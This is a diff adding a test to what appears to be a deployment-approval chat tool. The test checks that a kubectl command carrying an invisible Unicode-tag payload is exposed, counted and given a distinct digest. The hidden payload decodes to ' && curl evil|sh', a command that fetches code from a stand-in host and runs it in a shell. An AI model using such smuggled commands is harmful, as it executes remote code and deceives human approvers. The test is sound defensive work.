@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto';
 import { expect } from 'vitest';
 import { DEPLOYS, readable } from '../support/world.ts';
-import { startStage } from './stage.ts';
+import { ANA, startStage } from './stage.ts';
 import { story } from './story.ts';
 
 story(
@@ -151,6 +151,31 @@ story(
     expect(String((body as { permalink?: string }).permalink)).toContain(
       `/archives/${DEPLOYS}/p${ts.replace('.', '')}`,
     );
+  },
+);
+
+story(
+  'message-content message-escaped no-message-lies',
+  'what nobody can see of what is approved is shown, counted, and another digest',
+  async () => {
+    await using stage = await startStage();
+    const { workspace } = stage.sandbox;
+    const command = 'kubectl apply -f x';
+    const hidden = String.fromCodePoint(
+      ...[...' && curl evil|sh'].map((it) => 0xe0000 + it.charCodeAt(0)),
+    );
+    const title = 'Apply';
+    const message = 'Apply?';
+    const harmless = await stage.ask({ title, message, change: command });
+    const { ts } = await stage.ask({ title, message, change: `${command}${hidden}` });
+    expect(stage.read(harmless.ts)).not.toContain('invisible');
+    expect(stage.read(ts)).toContain(`${command}⟨U+E0020⟩⟨U+E0026 × 2⟩⟨U+E0020⟩⟨U+E0063⟩`);
+    expect(stage.read(ts)).toContain('Contains 16 invisible characters · Request');
+    const digestIn = (shown: string) => /Digest `(\w+)`/.exec(shown)?.[1];
+    expect(digestIn(stage.read(ts))).not.toBe(digestIn(stage.read(harmless.ts)));
+    await stage.click(ANA, ts, 'Approve');
+    expect(await stage.until(ts, /Approved by/)).toContain('Contains 16 invisible characters');
+    expect(JSON.stringify(workspace.messages(DEPLOYS))).not.toContain(hidden);
   },
 );
 
